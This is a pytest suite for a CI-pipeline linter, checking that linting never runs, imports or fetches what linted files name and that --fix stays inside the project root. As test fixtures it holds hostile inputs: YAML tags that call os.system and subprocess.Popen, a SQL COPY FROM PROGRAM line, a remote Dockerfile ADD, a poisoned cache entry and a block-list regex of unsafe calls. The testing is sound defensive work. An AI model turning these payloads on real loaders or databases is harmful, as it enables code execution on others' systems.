"""Safety: pipelint reads files and nothing else.

It never executes, imports or fetches anything a linted file names; YAML tags never
construct objects; ``--fix`` never writes outside the project root.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import re
import socket
import subprocess
import sys
import urllib.request
from pathlib import Path

import pytest

from conftest import FIXTURES, REPO, run_lint
from pipelint import cli
from pipelint.yamltree import Mapping, Scalar, Sequence, YamlError, load_documents, to_python, walk

WFD = ".github/workflows"


class _Tripwires:
    """Replace every way out of the process with a recorder that raises."""

    def __init__(self, monkeypatch, log: Path):
        # calls are appended to ``log`` too: forked workers (the engine's process pool)
        # inherit the traps, but not the parent's memory
        self.log = log
        self.log.write_text("")
        self._calls: list[str] = []
        targets = [
            (socket.socket, "connect"),
            (socket.socket, "connect_ex"),
            (socket.socket, "sendto"),
            (socket, "create_connection"),
            (socket, "getaddrinfo"),
            (subprocess, "Popen"),
            (subprocess, "run"),
            (subprocess, "call"),
            (subprocess, "check_call"),
            (subprocess, "check_output"),
            (os, "system"),
            (os, "popen"),
            (os, "posix_spawn"),
            (os, "posix_spawnp"),
            (urllib.request, "urlopen"),
        ]
        targets += [(os, name) for name in dir(os) if name.startswith(("exec", "spawn"))]
        for owner, name in targets:
            if hasattr(owner, name):
                monkeypatch.setattr(owner, name, self._trap(f"{getattr(owner, '__name__', owner)}.{name}"))

    def _trap(self, label: str):
        def trap(*args, **kwargs):
            call = f"{label}{args[:2]!r}"
            self._calls.append(call)
            with open(self.log, "a", encoding="utf-8") as fh:
                fh.write(call + "\n")
            raise AssertionError(f"pipelint called {label}")

        return trap

    @property
    def calls(self) -> list[str]:
        return self.log.read_text(encoding="utf-8").splitlines()


def _run_cli(argv: list[str]) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = cli.main(argv)
    return code, out.getvalue(), err.getvalue()


# -------------------------------------------------- (1) never executes or fetches


def test_linting_every_fixture_runs_nothing_and_fetches_nothing(tmp_path, monkeypatch):
    report = tmp_path / "report.json"
    tripwires = _Tripwires(monkeypatch, tmp_path / "tripwires.log")
    code, out, err = _run_cli(["--format", "json", "-o", str(report), str(FIXTURES)])
    assert tripwires.calls == []
    assert code in (0, 1), err
    assert "Traceback" not in out + err and "internal error" not in err
    assert json.loads(report.read_text(encoding="utf-8"))["diagnostics"]


# ------------------------------------------------------ (2) imports nothing named

EVIL_PY = """\
import pathlib
pathlib.Path({marker!r}).write_text("imported")
"""

WORKFLOW = """\
name: deploy
on: push
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: ./evil
      - uses: ./.github/actions/evil
      - uses: docker://evil:latest
      - run: python evil.py && python -m evil && ./scripts/deploy.sh
      - run: python scripts/deploy.py
      - uses: actions/github-script@v7
        with:
          script: require('./evil.js')
      - name: tagged values
        env:
          A: !!python/object/apply:os.system ["touch PWNED"]
          B: !!python/name:os.system
          C: !!python/module:evil
          D: !!python/object:evil.Thing {x: 1}
          E: !!python/object/new:subprocess.Popen [["touch", "PWNED"]]
        run: echo done
"""

TAGGED_DOCUMENT = """\
a: !!python/object/apply:os.system ["touch PWNED"]
b: !!python/name:os.system
c: !!python/module:evil
d: !!python/object:evil.Thing {x: 1}
e: !!python/object/new:subprocess.Popen [["touch", "PWNED"]]
f: !!binary aGVsbG8=
g: !!set {x, y}
h: !!omap [a: 1]
i: !!timestamp 2024-01-01
j: !custom {k: v}
k: !!python/tuple [1, 2]
"""


def _hostile_tree(root: Path, marker: Path) -> None:
    files = {
        f"{WFD}/deploy.yml": WORKFLOW,
        ".github/actions/evil/action.yml": "name: evil\ndescription: d\nruns:\n  using: node20\n  main: evil.js\n",
        ".github/actions/evil/evil.js": f"require('fs').writeFileSync({str(marker)!r}, 'ran')\n",
        "evil.py": EVIL_PY.format(marker=str(marker)),
        "evil/__init__.py": EVIL_PY.format(marker=str(marker)),
        "evil.js": f"require('fs').writeFileSync({str(marker)!r}, 'ran')\n",
        "scripts/deploy.py": EVIL_PY.format(marker=str(marker)),
        "scripts/deploy.sh": f"#!/bin/sh\ntouch {marker}\n",
        ".gitlab-ci.yml": "include:\n  - remote: https://example.invalid/evil.yml\n  - project: evil/ci\n    file: evil.yml\n"
        "build:\n  image: evil:latest\n  script:\n    - python evil.py\n  variables:\n    X: !!python/object/apply:os.system [\"touch PWNED\"]\n",
        "k8s/pod.yaml": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: evil\nspec:\n  containers:\n    - name: c\n"
        "      image: evil:latest\n      command: !!python/object/apply:os.system [\"touch PWNED\"]\n",
        "Dockerfile": "FROM evil:latest\nADD https://example.invalid/evil.tar.gz /\nRUN python /evil.py\n",
        "db/migrations/V1__evil.sql": "COPY accounts FROM PROGRAM 'touch PWNED';\n\\i evil.sql\n",
        "azure-pipelines.yml": "trigger: [main]\nresources:\n  repositories:\n    - repository: evil\n      type: github\n"
        "      name: evil/templates\nsteps:\n  - template: evil.yml@evil\n  - script: python evil.py\n",
    }
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    os.chmod(root / "scripts/deploy.sh", 0o755)


def test_nothing_a_linted_file_names_is_imported_or_run(tmp_path, monkeypatch):
    root = tmp_path / "repo"
    marker = tmp_path / "MARKER"
    _hostile_tree(root, marker)
    # make `import evil` *possible*, so that an import would really happen and show
    monkeypatch.syspath_prepend(str(root))
    monkeypatch.syspath_prepend(str(root / "scripts"))
    monkeypatch.chdir(root)
    sys.modules.pop("evil", None)
    tripwires = _Tripwires(monkeypatch, tmp_path / "tripwires.log")
    report = tmp_path / "report.json"
    code, out, err = _run_cli(["--format", "json", "-o", str(report), "."])
    assert tripwires.calls == []
    assert code in (0, 1), err
    assert "Traceback" not in out + err and "internal error" not in err
    paths = {d["path"] for d in json.loads(report.read_text(encoding="utf-8"))["diagnostics"]}
    assert f"{WFD}/deploy.yml" in paths  # the files were really read
    assert not marker.exists()
    assert "evil" not in sys.modules and "deploy" not in sys.modules
    assert not (root / "PWNED").exists() and not (tmp_path / "PWNED").exists() and not Path("PWNED").exists()


def test_the_engine_builds_a_model_of_the_hostile_tree(tmp_path):
    root = tmp_path / "repo"
    _hostile_tree(root, tmp_path / "MARKER")
    result = run_lint(root)
    assert not result.internal_errors, result.internal_errors[0].traceback
    kinds = {f.file.path: f.kind for f in result.project.files}
    assert kinds[f"{WFD}/deploy.yml"] == "github-workflow"
    assert {"Dockerfile", ".gitlab-ci.yml", "k8s/pod.yaml"} <= set(kinds)
    assert not (tmp_path / "MARKER").exists()


# ------------------------------------------------ (3) YAML tags construct nothing


def test_yaml_tags_never_construct_objects(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    tripwires = _Tripwires(monkeypatch, tmp_path / "tripwires.log")
    sys.modules.pop("evil", None)
    [doc] = load_documents(TAGGED_DOCUMENT)
    assert tripwires.calls == []
    assert isinstance(doc.root, Mapping)
    for _path, node in walk(doc.root):
        assert type(node) in (Mapping, Sequence, Scalar), type(node)
        assert node.tag is None or isinstance(node.tag, str)
        if isinstance(node, Scalar):
            assert isinstance(node.value, str)
    tags = {key: doc.root.get(key).tag for key in doc.root.keys()}
    assert tags["a"] == "tag:yaml.org,2002:python/object/apply:os.system"
    assert tags["b"] == "tag:yaml.org,2002:python/name:os.system"
    assert tags["c"] == "tag:yaml.org,2002:python/module:evil"
    assert tags["j"] == "!custom"
    assert doc.root.get("b").value == "" and doc.root.get("a").items[0].value == "touch PWNED"
    data = to_python(doc.root)
    assert data["a"] == ["touch PWNED"] and data["d"] == {"x": 1} and data["f"] == "aGVsbG8="
    assert data["i"] == "2024-01-01"  # a tagged scalar stays text: no datetime, no bytes

    def plain(value):
        if isinstance(value, dict):
            return all(isinstance(k, str) and plain(v) for k, v in value.items())
        if isinstance(value, list):
            return all(plain(v) for v in value)
        return value is None or isinstance(value, (str, int, float, bool))

    assert plain(data)
    assert "evil" not in sys.modules and not (tmp_path / "PWNED").exists()


@pytest.mark.parametrize(
    "text",
    ["!!python/object/apply:os.system\n", "--- !!python/name:os.system\n", "%TAG !e! tag:evil:\n--- !e!x {a: 1}\n"],
    ids=["root-apply", "root-name", "tag-directive"],
)
def test_tagged_roots_are_nodes_too(text):
    try:
        docs = load_documents(text)
    except YamlError:
        return
    for doc in docs:
        assert doc.root is None or type(doc.root) in (Mapping, Sequence, Scalar)


def test_no_unsafe_loader_or_eval_in_pipelint_source():
    """A static guard: the loaders in use cannot construct objects, and nothing evaluates text."""
    banned = re.compile(
        r"typ\s*=\s*['\"]unsafe['\"]|yaml\.(unsafe_)?load\(|(?<![\w.])(eval|exec)\(|__import__\(|import_module\(|import pickle|pickle\.loads?\(|marshal\.loads"
    )
    # schema.py runs the checker fastjsonschema generates from pipelint's own vendored
    # schemas (never from a linted file); see the cache-poisoning test below
    allowed = {("linter/schema.py", "exec(code_object, namespace)"), ("linter/schema.py", "return marshal.loads(payload), entry.decode(\"ascii\")")}
    offenders = []
    for folder in ("linter", "rules"):
        for path in sorted((REPO / folder).rglob("*.py")):
            for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
                code = line.split("#", 1)[0]
                if banned.search(code) and (path.relative_to(REPO).as_posix(), line.strip()) not in allowed:
                    offenders.append(f"{path.relative_to(REPO)}:{n}: {line.strip()}")
    assert offenders == []


def test_a_poisoned_schema_checker_cache_entry_is_not_executed(tmp_path):
    import marshal

    cache_dir, repo, marker = tmp_path / "cache", tmp_path / "repo", tmp_path / "POISONED"
    (repo / WFD).mkdir(parents=True)
    (repo / WFD / "ci.yml").write_bytes(FIXABLE.read_bytes())
    env = {**os.environ, "PIPELINT_CACHE_DIR": str(cache_dir)}
    env.pop("PIPELINT_NO_CACHE", None)
    pipelint = [sys.executable, "-m", "pipelint", "--exit-zero", str(repo)]
    subprocess.run(pipelint, env=env, capture_output=True, check=True, timeout=120)
    entries = sorted((cache_dir / "schema-checkers").glob("*")) if (cache_dir / "schema-checkers").is_dir() else []
    if not entries:
        return  # no code objects cached any more: nothing to poison
    for entry in entries:
        # entries are "signature\n" + name + NUL + code: keep the signature, swap the code
        signature, _, rest = entry.read_bytes().partition(b"\n")
        name, _, _payload = rest.partition(b"\0")
        source = f"import pathlib\npathlib.Path({str(marker)!r}).write_text('x')\ndef {name.decode()}(data):\n    return data\n"
        entry.write_bytes(signature + b"\n" + name + b"\0" + marshal.dumps(compile(source, "<poison>", "exec")))
    with open(repo / WFD / "ci.yml", "a", encoding="utf-8") as fh:
        fh.write("# changed, so that no cached result is reused\n")
    subprocess.run(pipelint, env=env, capture_output=True, timeout=120)
    assert not marker.exists()


# ------------------------------------------------- (4) --fix stays inside the root

FIXABLE = FIXTURES / "PL504/bad/no-permissions-anywhere/.github/workflows/ci.yml"


def _fix_tree(tmp_path: Path) -> tuple[Path, Path, bytes]:
    root = tmp_path / "repo"
    outside = tmp_path / "outside" / "ci.yml"
    outside.parent.mkdir(parents=True)
    original = FIXABLE.read_bytes()
    outside.write_bytes(original)
    (root / WFD).mkdir(parents=True)
    os.symlink(outside, root / WFD / "ci.yml")
    (root / WFD / "own.yml").write_bytes(original)  # a real file of the root, fixed normally
    return root, outside, original


def test_fixture_is_fixable():
    assert (FIXABLE.parent / (FIXABLE.name + ".fixed")).exists()


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="no symlinks")
def test_fix_never_writes_through_a_link_out_of_the_root(tmp_path, monkeypatch):
    root, outside, original = _fix_tree(tmp_path)
    monkeypatch.chdir(tmp_path)
    code, _out, err = _run_cli(["--fix", "--unsafe-fixes", str(root)])
    assert code in (0, 1), err
    assert outside.read_bytes() == original
    assert (root / WFD / "ci.yml").is_symlink()  # the link out of the root was not touched
    assert (root / WFD / "own.yml").read_bytes() != original  # ... while the root's own file was fixed
    assert sorted(p.name for p in outside.parent.iterdir()) == ["ci.yml"]  # no temporary files left there


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="no symlinks")
def test_fix_of_a_link_out_of_the_root_named_on_the_command_line(tmp_path, monkeypatch):
    root, outside, original = _fix_tree(tmp_path)
    monkeypatch.chdir(root)
    code, _out, err = _run_cli(["--fix", "--unsafe-fixes", f"{WFD}/ci.yml"])
    assert code == 1, err
    assert outside.read_bytes() == original
    assert sorted(p.name for p in outside.parent.iterdir()) == ["ci.yml"]
    assert (root / WFD / "ci.yml").is_symlink()  # not replaced by a fixed copy either
    assert f"{WFD}/ci.yml: is a symbolic link; not fixed (fix the file it points to)" in err


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="no symlinks")
def test_fix_never_writes_into_a_linked_folder_out_of_the_root(tmp_path, monkeypatch):
    root = tmp_path / "repo"
    outside = tmp_path / "outside" / "workflows"
    outside.mkdir(parents=True)
    original = FIXABLE.read_bytes()
    (outside / "ci.yml").write_bytes(original)
    (root / ".github").mkdir(parents=True)
    os.symlink(outside, root / WFD)
    monkeypatch.chdir(root)
    code, _out, err = _run_cli(["--fix", "--unsafe-fixes", "."])
    assert code in (0, 1), err
    assert (outside / "ci.yml").read_bytes() == original
    assert sorted(p.name for p in outside.iterdir()) == ["ci.yml"]
